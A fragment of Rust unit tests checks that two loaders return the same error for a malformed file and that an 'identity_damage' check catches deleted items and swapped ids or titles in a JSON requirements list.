            std::fs::write(&p, bad).unwrap();
            assert_eq!(
                View::load(&p).unwrap_err().to_string(),
                Prd::load(&p).unwrap_err().to_string()
            );
        }
    }

    #[test]
    fn identity_damage_is_detected() {
        let before = prd(r#"{"id":"A","title":"a"},{"id":"B","title":"b"}"#);
        let same = prd(r#"{"id":"A","title":"a","passes":true},{"id":"B","title":"b"},{"id":"C"}"#);
        assert_eq!(before.identity_damage(&same), None);
        let deleted = prd(r#"{"id":"A","title":"a"}"#);
        assert!(before.identity_damage(&deleted).unwrap().contains("B was deleted"));
        let flipped = prd(r#"{"id":"B","title":"a"},{"id":"A","title":"b"}"#);
        assert!(before.identity_damage(&flipped).is_some());
        let swapped_titles = prd(r#"{"id":"A","title":"b"},{"id":"B","title":"a"}"#);
        assert!(before.identity_damage(&swapped_titles).is_some());
    }
}
